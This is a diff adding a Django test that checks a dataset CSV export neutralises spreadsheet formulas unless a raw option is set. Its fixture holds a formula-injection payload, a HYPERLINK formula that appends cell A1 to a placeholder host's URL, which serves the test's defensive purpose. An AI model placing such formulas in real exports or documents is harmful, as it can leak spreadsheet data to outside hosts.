@@ -91,3 +91,18 @@ def test_the_parser_takes_exactly_the_clean_bounded_documents(value):
         assert not _clean(value) or _depth(value) > MAX_DEPTH
     else:
         assert parsed == value and _clean(value) and _depth(value) <= MAX_DEPTH
+
+
+@pytest.mark.django_db(transaction=True)
+def test_exports_neutralize_formulas_unless_raw(api, dataset):
+    from tests.factories import make_samples
+
+    make_samples(dataset, [{"metadata": {"caption": '=HYPERLINK("http://x.test/?"&A1,"click")', "n": "-3"}}])
+    for raw, expected in ((False, ["'=HYPERLINK(\"http://x.test/?\"&A1,\"click\")", "-3"]),
+                          (True, ['=HYPERLINK("http://x.test/?"&A1,"click")', "-3"])):
+        response = api.post(f"/api/datasets/{dataset.id}/exports/", {
+            "kind": "dataset", "columns": ["id"], "fields": ["caption", "n"], "ground_truth": False, "raw": raw})
+        export = api.get(response["Location"]).json()["result"]["export"]
+        body = b"".join(api.get(f"/api/datasets/{dataset.id}/exports/{export}/download/").streaming_content)
+        rows = list(__import__("csv").reader(io.StringIO(body.decode())))
+        assert rows[1][1:] == expected
